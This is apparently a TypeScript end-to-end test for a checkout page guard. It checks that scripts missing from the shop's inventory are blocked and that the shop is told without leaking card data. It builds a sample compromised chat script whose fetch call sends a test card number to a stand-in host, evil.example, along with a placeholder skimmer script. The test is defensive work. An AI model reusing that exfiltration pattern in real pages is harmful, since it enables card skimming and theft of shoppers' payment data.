// The page guard in a browser: scripts that the inventory does not list don't run, and the shop is told.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { createEximpeKit, createPageGuard, type PaymentEvent } from '@eximpe/server-kit';
import { SAMPLE_CHECKOUT, SIMULATOR_CREDENTIALS } from '@eximpe/simulator';
import { VISA_DEBIT } from '../cards.ts';
import { expect, test } from '../shop.ts';

const INTEGRITY = JSON.parse(
  readFileSync(fileURLToPath(import.meta.resolve('@eximpe/card-form/integrity.json')), 'utf8'),
) as Record<string, string>;

/** It is listed but still sends away what it can: its vendor was compromised before the shop listed it. */
const CHAT = `fetch('https://evil.example/${VISA_DEBIT.number}?n=${VISA_DEBIT.number}').catch(() => { window.chat = 'stopped'; });`;
const SKIMMER = 'window.skimmer = true;';
const hash = (script: string): string => `sha384-${createHash('sha384').update(script).digest('base64')}`;

const PAGE = `<!doctype html><html lang="hi"><title>Checkout</title>
  <script type="module" src="/eximpe/card-form.js" integrity="${INTEGRITY['card-form.js']}"></script>
  <script src="/chat.js" integrity="${hash(CHAT)}"></script>
  <script src="/uploads/skimmer.js"></script>
  <script>${SKIMMER}</script>
  <eximpe-card-form endpoint="/eximpe" checkout="ORDER-1"></eximpe-card-form>`;

test('unlisted scripts don’t run, the form does, and the shop is told of each script but not of the card', async ({
  page,
  shop,
}) => {
  const server = createServer();
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  const told: PaymentEvent[] = [];
  const kit = createEximpeKit({
    ...SIMULATOR_CREDENTIALS,
    environment: 'sandbox',
    baseUrl: shop.simulator.url,
    publicUrl: origin,
    secret: 'a-secret-that-only-this-journey-uses-01',
    unsafeAllowHttp: true,
    log: { info() {}, warn() {}, error() {} },
    resolveCheckout: () => ({ ...SAMPLE_CHECKOUT, invoice: { number: 'INV-1' } }),
    onPaid: () => {},
    onEvent: (event) => void told.push(event),
  });
  const guard = createPageGuard({
    origin,
    inventory: {
      scripts: [
        ...Object.entries(INTEGRITY).map(([file, integrity]) => ({
          source: `/eximpe/${file}`,
          why: 'the card form',
          integrity,
          later: file !== 'card-form.js',
        })),
        { source: '/chat.js', why: 'shoppers ask us', integrity: hash(CHAT) },
      ],
    },
  });
  const scripts: Readonly<Record<string, string>> = { '/chat.js': CHAT, '/uploads/skimmer.js': SKIMMER };
  server.on('request', (request, response) => {
    const { url = '/' } = request;
    if (url.startsWith('/eximpe/')) return kit.router(request, response);
    guard.middleware(request, response);
    const script = scripts[url];
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html; charset=utf-8');
    response.end(script ?? PAGE);
  });

  await page.goto(`${origin}/checkout?session=of-a-shopper`);
  // The form is there, in a language loaded from the same place: no part of it is blocked.
  await expect(page.getByLabel('कार्ड नंबर')).toBeVisible();
  await expect.poll(() => page.evaluate('window.chat')).toBe('stopped');
  expect(await page.evaluate('window.skimmer')).toBeUndefined();

  const blocked = (): string[] =>
    told.flatMap((event) =>
      event.type === 'page.blocked' ? [`${event.directive} ${event.blocked} on ${event.page ?? ''}`] : [],
    );
  await expect
    .poll(() => new Set(blocked()))
    .toEqual(
      new Set([
        'connect-src evil.example on localhost',
        'script-src-elem inline on localhost',
        'script-src-elem localhost on localhost',
      ]),
    );
  expect(JSON.stringify(told)).not.toMatch(new RegExp(`${VISA_DEBIT.number}|session|skimmer`));

  await kit.close();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});
